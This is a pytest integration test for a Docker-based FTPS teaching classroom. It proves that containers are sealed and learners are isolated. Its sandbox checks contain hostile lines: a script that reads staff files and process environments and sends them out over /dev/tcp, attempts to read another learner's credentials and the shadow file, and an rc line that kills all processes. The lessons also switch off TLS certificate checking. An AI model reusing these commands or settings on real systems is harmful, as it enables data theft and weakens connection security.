"""The classroom for teachers and learners: `up`, every lesson of docs/classroom.md typed in, `down`.

This is one test because building, starting and ending the classroom takes most of its time.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shlex
import shutil
import socket
import subprocess
import tempfile
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from ftps_lab.classroom.hosts import HOSTS

if TYPE_CHECKING:
    from collections.abc import Iterator

    from ftps_lab.containers import Engine

ROOT = Path(__file__).parents[3]
LESSONS = (ROOT / "docs/classroom.md").read_text()

LEARNERS = ("anna", "ben", "carla")
"""The learners in the document."""

WITH_SSH = ("-f", "compose.yaml", "-f", "compose.ssh.yaml")

ANSWER_SECONDS = 120
BUILD_SECONDS = 900
LOG_SECONDS = 20
"""A host checks once per second; no test waits longer for its message."""

FETCH = "openssl s_client -starttls ftp -connect"

PROMPT = re.compile(r"(student\$|teacher\$|lftp \S+>) ?(.*)")


@dataclass
class LessonCommand:
    """One command of the lessons.

    Attributes:
        who: ``student`` or ``teacher``.
        command: The line for the shell.
        inside: The lines for lftp's own prompt.
        shown: Output according to the document; `…` stands for anything.
    """

    who: str
    command: str
    inside: list[str] = field(default_factory=list)
    shown: list[str] = field(default_factory=list)

    @property
    def pattern(self) -> re.Pattern[str]:
        """A pattern for the whole output: a line of `…` matches any lines, elsewhere it matches any part of one."""
        lines = [r"(?:.*\n)*" if line == "…" else f"{_part(line)}\n" for line in self.shown]
        return re.compile("".join(lines))

    @property
    def script(self) -> str:
        """Script for the shell; lftp reads its commands from a pipe instead of a terminal."""
        if not self.inside:
            return self.command
        return f"printf '%s\\n' {shlex.join(self.inside)} | {self.command}"


def _part(line: str) -> str:
    return ".+".join(map(re.escape, line.split("…")))


def lesson_commands(text: str) -> list[LessonCommand]:
    """Every command in a document's console blocks, in order."""
    commands: list[LessonCommand] = []
    for block in re.findall(r"```console\n(.*?)```", text, re.DOTALL):
        for line in block.splitlines():
            prompt = PROMPT.fullmatch(line)
            if prompt is None:
                commands[-1].shown.append(line)
            elif prompt[1].startswith("lftp"):
                commands[-1].inside.append(prompt[2])
            else:
                commands.append(LessonCommand(prompt[1].removesuffix("$"), prompt[2]))
    return commands


class Classroom:
    """A classroom with its own project name, ended in every case."""

    def __init__(self, compose: list[str]) -> None:
        self.project = f"ftps-lab-test-{uuid.uuid4().hex[:8]}"
        self._compose = compose
        # Own images, so that a test never removes a teacher's. They stay, and the next test builds on them.
        self._environment = {
            **os.environ,
            "COMPOSE_PROJECT_NAME": self.project,
            "CLASSROOM_TAG": "test",
            "FTPS_LAB_LEARNERS": " ".join(LEARNERS),
        }

    def compose(self, *arguments: str, timeout: float = ANSWER_SECONDS, stdin: str = "") -> tuple[int, str, str]:
        """Exit code, output and errors of a Compose command."""
        done = subprocess.run(
            [*self._compose, *arguments],
            cwd=ROOT,
            env=self._environment,
            input=stdin,
            capture_output=True,
            text=True,
            timeout=timeout,
            check=False,
        )
        return done.returncode, done.stdout, done.stderr

    def set_environment(self, **variables: str) -> None:
        """Add variables to the environment."""
        self._environment |= variables

    def must(self, *arguments: str, **more: Any) -> str:
        """Output of a command, which must succeed."""
        code, output, errors = self.compose(*arguments, **more)
        assert code == 0, f"{shlex.join(arguments)}: exit code {code}\n{output}\n{errors}"
        return output

    def learner(self, name: str) -> contextlib.AbstractContextManager[Student]:
        """A learner's shell in the class, one of many terminals."""
        return self._shell("exec", "-T", "class", "enter", name, "bash", "-c", "cd ~/.lftp && exec bash")

    def student(self, service: str = "student") -> contextlib.AbstractContextManager[Student]:
        """A learner's shell in its own container."""
        return self._shell("run", "--rm", "-T", service, "bash")

    @contextlib.contextmanager
    def _shell(self, *arguments: str) -> Iterator[Student]:
        process = subprocess.Popen(
            [*self._compose, *arguments],
            cwd=ROOT,
            env=self._environment,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,  # Compose's own progress
            text=True,
        )
        with process:
            student = Student(process)
            student.type("exec 2>&1; export LC_ALL=C")
            yield student
            process.stdin and process.stdin.close()
            process.wait(ANSWER_SECONDS)

    def teacher(self, command: str) -> str:
        """A command typed outside the learners' shells: `docker compose …`, with the installed Compose."""
        words = shlex.split(command)
        assert words[:2] == ["docker", "compose"], command
        unattended = {"exec": ["-T"], "logs": ["--no-color"], "run": ["-T"]}[words[2]]
        return self.must(words[2], *unattended, *words[3:])

    def has_openssl(self) -> bool:
        """Whether the optional OpenSSL image is available; not with v2, whose builder would compile it again."""
        if self._compose != ["docker-compose"]:
            return False
        code, output, errors = self.compose("build", "student-openssl", timeout=BUILD_SECONDS)
        assert code == 0 or "the other clients do not need this image" in output + errors, output + errors
        return code == 0

    def leftovers(self) -> list[str]:
        """Containers, networks and volumes of this classroom."""
        label = f"label=com.docker.compose.project={self.project}"
        found = []
        for kind in (["ps", "-a"], ["network", "ls"], ["volume", "ls"]):
            found += subprocess.check_output(["docker", *kind, "-q", "--filter", label], text=True).split()
        return found

    def inspected(self, *, ended: bool = False) -> dict[str, Any]:
        """The engine's data on every container, by service; ended ones only with `ended`."""
        label = f"label=com.docker.compose.project={self.project}"
        listed = ["docker", "ps", "-q", *(["-a"] if ended else []), "--filter", label]
        numbers = subprocess.check_output(listed, text=True).split()
        containers = json.loads(subprocess.check_output(["docker", "inspect", *numbers], text=True))
        return {each["Config"]["Labels"]["com.docker.compose.service"]: each for each in containers}


class Student:
    """A shell that reads commands and reports when each is done."""

    def __init__(self, process: subprocess.Popen[str]) -> None:
        self._process = process

    def type(self, script: str) -> str:
        """Type a command; its output on both streams."""
        assert self._process.stdin is not None
        assert self._process.stdout is not None
        end = f"done-{uuid.uuid4().hex}"
        self._process.stdin.write(f"{{ {script}\n}} </dev/null\necho {end}\n")
        self._process.stdin.flush()
        lines: list[str] = []
        for line in self._process.stdout:
            if line.endswith(f"{end}\n"):
                return "".join([*lines, line.removesuffix(f"{end}\n")])
            lines.append(line)
        raise AssertionError(f"the learner's shell ended during {script!r}:\n{''.join(lines)}")


@pytest.fixture(params=["docker compose", "docker-compose"])
def classroom(request: pytest.FixtureRequest, engine: Engine) -> Iterator[Classroom]:
    """Once with Compose v2, a plugin of docker, and once with 1.29."""
    if shutil.which("docker") is None:
        pytest.skip("no docker command here (Debian: apt install docker.io)")
    compose: list[str] = request.param.split()
    if (
        shutil.which(compose[0]) is None
        or subprocess.run([*compose, "version"], capture_output=True, check=False).returncode
    ):
        pytest.skip(f"no {request.param} here (Debian: apt install docker-compose)")
    classroom = Classroom(compose)
    try:
        yield classroom
    finally:
        classroom.set_environment(
            CLASSROOM_SSH="127.0.0.1:2222"
        )  # nothing starts any more, but the file needs an address
        classroom.compose(*WITH_SSH, "--profile", "student", "down", "-v", "--remove-orphans")
    assert classroom.leftovers() == []


def test_lesson_parser_finds_commands_and_every_host() -> None:
    """The parser finds commands, and each host of the document is in a lesson."""
    commands = lesson_commands(LESSONS)
    assert len(commands) >= 40
    assert {command.who for command in commands} == {"student", "teacher"}
    assert [host.address for host in HOSTS.values() if not any(host.address in each.command for each in commands)] == []
    assert [each.command for each in commands if each.command.startswith("lftp") and not each.shown] == []


@pytest.mark.parametrize(
    ("shown", "output", "fits"),
    [
        (["ls: Fatal error (…)"], "ls: Fatal error (AB:CD)\n", True),
        (["ls: Fatal error (…)"], "ls: Fatal error ()\n", False),
        (["a", "b"], "a\nmore\nb\n", False),
        (["a", "…", "b"], "a\nmore\nb\n", True),
        ([], "", True),
        ([], "unexpected\n", False),
    ],
)
def test_output_pattern_matches_the_whole_output(shown: list[str], output: str, fits: bool) -> None:
    assert bool(LessonCommand("student", "x", shown=shown).pattern.fullmatch(output)) is fits


@pytest.mark.lftp
def test_classroom_runs_every_lesson_and_is_sealed(classroom: Classroom) -> None:
    classroom.must("build", "example", timeout=BUILD_SECONDS)
    classroom.must("build", "class", "checker", "student", "student-bullseye", timeout=BUILD_SECONDS)
    classroom.must("up", "-d")
    with classroom.student() as student, classroom.learner("anna") as anna:
        prove_rights(classroom)
        prove_sealed(classroom, student)
        prove_isolation(classroom, anna)
        teach(classroom, anna)
        prove_window(classroom)
        prove_check(classroom, anna)
    prove_ssh(classroom)
    with classroom.student("student-bullseye") as student:
        teach_the_document(student)
    if classroom.has_openssl():
        with classroom.student("student-openssl") as student:
            assert "Certificate verification: self-signed certificate" in student.type("echo ls | lftp example.com")
            student.type(f"{FETCH} example.com:21 | openssl x509 >mycert.crt; echo 'set ssl:ca-file mycert.crt' >rc")
            assert "welcome.txt" in student.type("echo ls | lftp example.com")
    classroom.must("stop")
    ends = {name: each["State"]["ExitCode"] for name, each in classroom.inspected(ended=True).items()}
    # 137: it ignored SIGTERM and was killed. A learner's container may still be ending.
    assert {name: code for name, code in ends.items() if name in HOSTS} == dict.fromkeys(HOSTS, 0)
    classroom.must("up", "-d")  # the same containers again, as after Ctrl-C
    with classroom.student() as student:
        student.type(f"{FETCH} vsftpd.example.com:21 | openssl x509 >mycert.crt; echo 'set ssl:ca-file mycert.crt' >rc")
        assert "welcome.txt" in student.type("echo ls | lftp vsftpd.example.com")
    classroom.must(*WITH_SSH, "down", "-v")
    assert classroom.leftovers() == []


def prove_rights(classroom: Classroom) -> None:
    """The engine confirms that nothing can get in and that no container has more rights than it needs."""
    found = classroom.inspected()
    assert set(found) == {*HOSTS, "student", "class", "checker"}
    for name, container in found.items():
        host = container["HostConfig"]
        assert host["ReadonlyRootfs"], name
        assert not host["Privileged"], name
        assert host["CapDrop"] == ["ALL"], name
        assert host["SecurityOpt"] == ["no-new-privileges:true"], name
        assert not host["PortBindings"], name
        assert not any(container["NetworkSettings"]["Ports"].values()), name
        assert len(container["NetworkSettings"]["Networks"]) == 1, name
        as_root = {"vsftpd": "root", "class": "", "checker": ""}  # these two images name no user
        assert (container["Config"]["User"] in {"root", ""}) is (name in as_root), name
        if name not in {"student", "checker"}:
            assert container["State"]["Health"]["Status"] == "healthy", name


def prove_sealed(classroom: Classroom, student: Student) -> None:
    """A learner cannot get out, not even to this machine, whose address an internal network usually has."""
    (network,) = classroom.inspected()["student"]["NetworkSettings"]["Networks"].values()
    machine = network["Gateway"] or network["IPAddress"].rpartition(".")[0] + ".1"
    with socket.create_server(("", 0)) as listener:
        port = listener.getsockname()[1]
        socket.create_connection(("127.0.0.1", port), ANSWER_SECONDS).close()  # it exists
        knocked = student.type(f"timeout 10 bash -c 'echo >/dev/tcp/{machine}/{port}' || echo no way out")
        assert knocked.endswith("no way out\n")
    assert "Read-only file system" in student.type("touch /usr/bin/x")
    assert "Read-only file system" in student.type("touch /handout/x")
    assert student.type("id -u") == "1000\n"
    began = time.monotonic()
    assert "open: exmaple.com: " in student.type("lftp -e 'ls; exit' exmaple.com")
    assert time.monotonic() - began < 10, "a mistyped name keeps a learner waiting"


def prove_isolation(classroom: Classroom, anna: Student) -> None:
    """A learner neither sees nor breaks anything of another learner, and none sees the staff's data."""
    assert anna.type("id -un; id -G") == "anna\n2000\n"
    assert "Permission denied" in anna.type("cat /home/ben/.netrc")
    assert "Permission denied" in anna.type("ls /staff")
    assert "Permission denied" in anna.type("cat /staff/learners.tsv /var/lib/extrausers/shadow")
    anna.type("lftp -e 'set ftp:ssl-allow no; rm -r backup welcome.txt; exit' example.com")
    with classroom.learner("ben") as ben:
        assert "welcome.txt" in ben.type("lftp -e 'set ftp:ssl-allow no; ls; exit' example.com")
    listed = "lftp -e 'set ftp:ssl-allow no; ls; exit' example.com"
    assert "welcome.txt" not in anna.type(listed)
    classroom.must("run", "--rm", "-T", "teacher", "reset", "anna")
    assert "welcome.txt" in anna.type(listed)
    code, _, said = classroom.compose("run", "--rm", "-T", "teacher", "reset", "dora")
    assert code == 1
    assert "no learner has the name dora" in said


def prove_window(classroom: Classroom) -> None:
    """After the lessons the window shows anna's own password next to her name, and no other learner's."""
    slips = classroom.must("run", "--rm", "-T", "teacher", "learners").splitlines()[1:]
    passwords = {line.split()[0]: line.split()[1] for line in slips}
    assert tuple(passwords) == LEARNERS
    lines = classroom.must("run", "--rm", "-T", "teacher").splitlines()
    (row,) = (line for line in lines if line.startswith("anna "))
    assert row.endswith(passwords["anna"])
    (unseen,) = (line for line in lines if line.startswith("carla "))
    assert unseen.split() == ["carla", "-"]
    assert max(map(len, lines)) <= 80
    story = classroom.must("run", "--rm", "-T", "teacher", "window", "anna")
    assert re.search(r" intercepted +TLS +password captured +" + passwords["anna"], story)
    assert re.search(r" stripped +CLEAR +password captured +" + passwords["anna"], story)
    assert re.search(r" mismatched +TLS +left before the login", story), "a refusal, of whom ident names"


def prove_check(classroom: Classroom, anna: Student) -> None:
    """A learner's cheats, and a server that is down, never count as solved."""
    solved = anna.type("echo 'set ssl:ca-file \"~/.lftp/mycert.crt\"' >rc; check 3; echo $?")
    assert solved.endswith("solved\n0\n"), solved
    anna.type("echo 'set ssl:verify-certificate no' >rc; mkdir -p ~/bin; cp /bin/true ~/bin/lftp")
    cheat = "PATH=~/bin:$PATH; lftp() { true; }; alias lftp=true; check 3; echo $?"
    assert anna.type(cheat).endswith("not solved\n1\n")
    prove_checker_sandbox(classroom, anna)
    anna.type("echo '!kill -9 -1' >rc")
    assert anna.type("check 3; echo $?").splitlines()[-1] != "0"
    anna.type("echo 'set ssl:ca-file \"~/.lftp/mycert.crt\"' >rc")
    classroom.must("stop", "example")
    down = anna.type("check 3; echo $?")
    assert down.endswith("\nnot judged\ncheck: not judged; try again, or tell the teacher\n3\n"), down
    classroom.must("start", "example")
    classroom.must("stop", "checker")
    assert anna.type("check 3; echo $?").endswith("tell the teacher (docker compose ps)\n3\n")
    classroom.must("start", "checker")


def prove_checker_sandbox(classroom: Classroom, anna: Student) -> None:
    """An rc may run programs in the checker: they reach nothing of the staff's, and can send nothing."""
    anna.type("socat -u TCP-LISTEN:5555,reuseaddr OPEN:/tmp/stolen,creat,append 2>/dev/null & sleep 1")
    reach = "{ id; cat /staff/*; cat /proc/[0-9]*/environ; ls /proc/1/fd/; } >/tmp/found 2>&1"
    thief = f"{reach}; exec 3<>/dev/tcp/class/5555; cat /tmp/found >&3"
    anna.type(f"printf '%s\\n' {shlex.quote(thief)} >~/steal; echo '!bash ~/steal' >rc")
    anna.type("check 3")
    sent = anna.type("sleep 1; cat /tmp/stolen; rm -f /tmp/stolen ~/steal; pkill socat")
    assert sent.strip() == "cat: /tmp/stolen: No such file or directory"
    found = classroom.must("exec", "-T", "checker", "sh", "-c", "cat /tmp/found; rm /tmp/found")
    assert re.match(r"uid=300\d", found), found
    assert "Permission denied" in found
    slips = classroom.must("run", "--rm", "-T", "teacher", "learners").splitlines()[1:]
    secrets = [word for line in slips if not line.startswith("anna") for word in line.split()[1:]]
    assert [word for word in secrets if word in found] == []
    assert "PRIVATE KEY" not in found


def prove_ssh(classroom: Classroom) -> None:
    """A real ssh works only with the second password on the slip and the host key that the teacher reads out."""
    if shutil.which("ssh") is None:
        pytest.skip("no ssh here (Debian: apt install openssh-client)")
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    code, _, said = classroom.compose(*WITH_SSH, "config", "-q")
    assert code != 0
    assert "name the address and port for ssh" in said
    classroom.set_environment(CLASSROOM_SSH=f"127.0.0.1:{port}")
    classroom.must(*WITH_SSH, "up", "-d", "--no-recreate", "door", timeout=BUILD_SECONDS)
    slips = classroom.must("run", "--rm", "-T", "teacher", "learners").splitlines()[1:]
    doors = {line.split()[0]: line.split()[2] for line in slips}
    hosts = {line.split()[0]: line.split()[1] for line in slips}
    read_out = re.findall(r"SHA256:\S+", classroom.must("logs", "--no-color", "class"))[-1]
    with tempfile.TemporaryDirectory() as folder:
        door = Door(Path(folder), port)
        assert door.fingerprint() == read_out
        told = door.ssh("ben", doors["ben"], "id -un; lftp -e 'ls; exit' example.com; check 3")
        assert told.stdout.startswith("ben\n"), told
        assert "Certificate verification" in told.stdout + told.stderr
        assert told.stdout.endswith("not solved\n")
        assert door.ssh("ben", hosts["ben"], "id").returncode == 255, "the captured password opens no shell"
        assert door.ssh("root", doors["ben"], "id").returncode == 255
        assert door.ssh("student", "classroom", "id").returncode == 255
        forwarded = door.ssh("ben", doors["ben"], "", "-W", "example.com:21")
        assert "220" not in forwarded.stdout, "ssh does not reach the hosts"
    # Compose 1 and 2 name containers differently.
    container = classroom.must(*WITH_SSH, "ps", "-q", "door").strip()
    listening = subprocess.check_output(["docker", "port", container], text=True)
    assert listening.split(" -> ") == ["2222/tcp", f"127.0.0.1:{port}\n"]
    classroom.must(*WITH_SSH, "rm", "-sf", "door")


@dataclass
class Door:
    """The published SSH port, and a real ssh."""

    folder: Path
    port: int

    def fingerprint(self) -> str:
        """Fingerprint of the port's host key; the first ssh accepts it, as a learner does after comparing it."""
        deadline = time.monotonic() + ANSWER_SECONDS
        known = self.folder / "known_hosts"
        while not (key := subprocess.run(self._scan, capture_output=True, text=True, check=False).stdout):
            assert time.monotonic() < deadline, "the door does not answer"
            time.sleep(0.5)
        known.write_text(key)
        return subprocess.check_output(["ssh-keygen", "-l", "-f", str(known)], text=True).split()[1]

    @property
    def _scan(self) -> list[str]:
        return ["ssh-keyscan", "-t", "ed25519", "-p", str(self.port), "127.0.0.1"]

    def ssh(self, user: str, password: str, command: str, *more: str) -> subprocess.CompletedProcess[str]:
        """Run a command with this password; `more` holds further ssh options."""
        ask = self.folder / "ask"
        ask.write_text(f"#!/bin/sh\necho {password}\n")
        ask.chmod(0o700)
        own = [f"UserKnownHostsFile={self.folder}/known_hosts", "StrictHostKeyChecking=yes", "PubkeyAuthentication=no"]
        options = [word for option in own for word in ("-o", option)]
        where = ["-F", "none", "-p", str(self.port), *options, *more, f"{user}@127.0.0.1"]
        return subprocess.run(
            ["ssh", *where, *([command] if command else [])],
            env={**os.environ, "SSH_ASKPASS": str(ask), "SSH_ASKPASS_REQUIRE": "force"},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=ANSWER_SECONDS,
            check=False,
        )


def teach(classroom: Classroom, student: Student) -> None:
    """Type every command of docs/classroom.md and compare its output exactly."""
    for each in lesson_commands(LESSONS):
        output = student.type(each.script) if each.who == "student" else output_of_teacher(classroom, each)
        assert each.pattern.fullmatch(output), f"{each.command}\n{output}\ninstead of\n" + "\n".join(each.shown)


def output_of_teacher(classroom: Classroom, each: LessonCommand) -> str:
    """Output of a teacher's command; `logs` is repeated until the host's message has arrived through the engine."""
    output = classroom.teacher(each.command)
    deadline = time.monotonic() + LOG_SECONDS
    while " logs " in each.command and not each.pattern.fullmatch(output) and time.monotonic() < deadline:
        time.sleep(0.2)
        output = classroom.teacher(each.command)
    return output


def teach_the_document(student: Student) -> None:
    """The document word by word, with the build whose messages it quotes: lftp 4.8.4."""
    assert "Fatal error: Certificate verification: Not trusted" in student.type("echo ls | lftp example.com")
    student.type("echo 'set ssl:verify-certificate no' > ~/.lftp/rc")
    assert "welcome.txt" in student.type("echo ls | lftp example.com")
    said = student.type("openssl s_client -showcerts -connect example.com:21 -starttls ftp")
    (chain,) = re.findall(r"^Certificate chain\n(.*?)^---\n", said, re.DOTALL | re.MULTILINE)
    (certificate,) = re.findall(r"-----BEGIN CERTIFICATE-----\n.*?-----END CERTIFICATE-----\n", chain, re.DOTALL)
    student.type(f"cat > mycert.crt <<'E'\n{certificate}E")
    student.type("echo 'set ssl:ca-file \"mycert.crt\"' > ~/.lftp/rc")
    assert "welcome.txt" in student.type("echo ls | lftp example.com")
    name = "Certificate verification: certificate common name doesn't match requested host name"
    student.type(
        "openssl s_client -showcerts -connect mismatched.example.com:21 -starttls ftp | openssl x509 > mycert.crt"
    )
    assert name in student.type("echo ls | lftp mismatched.example.com")
    student.type("echo 'set ssl:check-hostname no' >> ~/.lftp/rc")
    assert "welcome.txt" in student.type("echo ls | lftp mismatched.example.com")
